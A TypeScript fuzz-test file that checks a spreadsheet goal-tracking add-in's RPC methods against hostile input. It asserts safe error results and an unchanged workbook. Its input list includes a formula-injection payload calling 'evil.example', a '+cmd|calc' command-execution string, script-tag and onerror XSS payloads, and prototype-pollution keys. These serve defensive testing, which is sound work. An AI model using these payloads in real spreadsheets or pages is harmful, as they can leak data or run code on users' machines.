/**
 * Random and hostile requests for every method: wrong types, huge strings, formulas, HTML,
 * unknown and missing fields, NaN and Infinity, objects where text belongs. Whatever
 * arrives, no exception reaches the client, the answer is an RpcResult with a short
 * message, and a refused request leaves the whole workbook (every sheet, cell, format,
 * rule and property) exactly as it was.
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { METHODS, type Method } from '../../src/contract/params.ts';
import { addHandMade } from '../support/hand-made.ts';
import { withTable } from './helpers.ts';

/** A Retail table and a hand-made sheet to adopt. */
function fixture() {
  const a = withTable();
  addHandMade(a.app);
  return a;
}

const HOSTILE_TEXT = [
  '=IMPORTXML("http://evil.example","//a")', '+cmd|calc', '-2+3', '@SUM(A1)', "'", '',
  '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '\u0000\u202e\uFEFF', 'x'.repeat(60_000),
  '__proto__', 'constructor', 'T1', 'R1', 'r2 ', '2026-11-29', '2026-11-30', '9999-12-31', '1e400', 'NaN', 'TRUE',
];

const hostile: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom(...HOSTILE_TEXT),
  fc.string({ maxLength: 40 }),
  fc.double(),
  fc.integer(),
  fc.constantFrom(0, -0, 1, 2, 10, 11, 20, 1e308, -1e308, 5e-324, 2 ** 53 + 2, Number.NaN, Number.POSITIVE_INFINITY),
  fc.boolean(),
  fc.constantFrom(null, undefined),
  fc.date(),
  fc.array(fc.anything({ maxDepth: 1 }), { maxLength: 3 }),
  fc.object({ maxDepth: 1 }),
);

/** A request each method would accept, to mutate field by field. */
const VALID: Readonly<Record<Method, Record<string, unknown>>> = {
  listGoals: {},
  getGoal: { tableId: 'T1', goalId: 'R2' },
  checkIn: { tableId: 'T1', goalId: 'R2', value: 44, date: '2026-11-28', confidence: 5, note: 'n', who: 'w' },
  // Log row 19 holds R1's reading of 536,648 on Nov 28.
  correctCheckIn: { action: 'correct', tableId: 'T1', row: 19, was: { date: '2026-11-28', goalId: 'R1', value: 536648 }, value: 536000, note: 'n', reason: 'r' },
  reviseTarget: { tableId: 'T1', goalId: 'R1', target: 560000, reason: 'r', who: 'w' },
  previewGoal: { kind: 'increase', baseline: 100, target: 200, upper: null, current: 150, start: '2026-01-01', due: '2026-12-31', readingDate: '2026-06-01' },
  parseGoal: { text: 'Reduce patient wait times by 20% within six months', start: '2026-01-01', baseline: 40 },
  createGoal: { tableId: 'T1', id: 'N1', goal: 'Grow visits', kpi: 'Visits', owner: 'Ana', kind: 'increase', unit: '', baseline: 10, target: 20, start: '2026-10-01', due: '2026-12-31', cadence: 7, current: 12 },
  updateGoal: { tableId: 'T1', goalId: 'R2', fields: { owner: 'Bo', notes: 'n', due: '2026-12-30' } },
  archiveGoal: { tableId: 'T1', goalId: 'R2', reason: 'r' },
  createTable: { template: 'Retail' },
  // The fixture's hand-made sheet (test/support/hand-made.ts): Goal value is column D.
  adoptSheet: { sheetName: 'Hand made', headerRow: 2, mapping: { target: 'D' }, apply: false },
  refresh: {},
  selectGoal: { tableId: 'T1', goalId: 'R2' },
  getSettings: {},
  saveSettings: { asOf: '2026-11-01', pinned: true, onTrack: 0.95, atRisk: 0.75, defaultCadence: 14, statusColours: { 'On track': '#00aa00' } },
};

/** Each accepted createTable makes two sheets, and the workbook every later run saves grows with them: fewer runs. */
const RUNS: Partial<Record<Method, number>> = { createTable: 20 };

function requests(method: Method): fc.Arbitrary<unknown> {
  const base = VALID[method];
  const keys = Object.keys(base);
  const mutations: fc.Arbitrary<unknown>[] = [
    fc.anything({ maxDepth: 2 }),
    hostile,
    fc.tuple(fc.string({ minLength: 1, maxLength: 20 }), hostile).map(([k, v]) => ({ ...base, [k]: v })),
    fc.record(Object.fromEntries(keys.concat('extra').map((k) => [k, hostile])), { requiredKeys: [] }),
  ];
  if (keys.length > 0) {
    mutations.push(
      fc.tuple(fc.constantFrom(...keys), hostile).map(([k, v]) => ({ ...base, [k]: v })),
      fc.constantFrom(...keys).map((k) => Object.fromEntries(Object.entries(base).filter(([key]) => key !== k))),
    );
  }
  return fc.oneof(...mutations);
}

function checkShape(r: unknown): void {
  expect(typeof r).toBe('object');
  const res = r as { ok: unknown; value?: unknown; error?: { code: unknown; message: unknown; field?: unknown } };
  expect(typeof res.ok).toBe('boolean');
  if (res.ok) return;
  expect(Object.keys(res).sort()).toEqual(['error', 'ok']);
  const { code, message, field } = res.error ?? {};
  expect(typeof code).toBe('string');
  expect(typeof message).toBe('string');
  expect((message as string).length).toBeGreaterThan(0);
  expect((message as string).length).toBeLessThan(600);
  // The person's own input may be quoted back; nothing else may read like a bug.
  expect((message as string).replace(/"[^"]*"/g, '""')).not.toMatch(/undefined|NaN|Infinity|\[object/);
  if (field !== undefined) expect(typeof field).toBe('string');
  expect(JSON.parse(JSON.stringify(r))).toEqual(r);
}

describe('hostile requests', () => {
  it.each(METHODS)('%s: never throws; a refused request changes nothing', (method) => {
    const a = fixture();
    fc.assert(
      fc.property(requests(method), (params) => {
        const before = a.s.saveJson();
        let r: unknown;
        expect(() => (r = a.raw(method, params))).not.toThrow();
        checkShape(r);
        if (!(r as { ok: boolean }).ok) expect(a.s.saveJson() === before, JSON.stringify(r)).toBe(true);
        expect(a.s.local.lock.holder()).toBeNull();
      }),
      { numRuns: RUNS[method] ?? 60 },
    );
  }, 60_000);

  it('any method name, any params', () => {
    const a = fixture();
    fc.assert(
      fc.property(fc.oneof(fc.string(), fc.anything({ maxDepth: 1 }), fc.constantFrom(...METHODS)), fc.anything({ maxDepth: 2 }), (method, params) => {
        const before = a.s.saveJson();
        let r: unknown;
        expect(() => (r = a.raw(method, params))).not.toThrow();
        checkShape(r);
        if (!(r as { ok: boolean }).ok) expect(a.s.saveJson() === before).toBe(true);
      }),
      { numRuns: 60 },
    );
  }, 60_000);
});
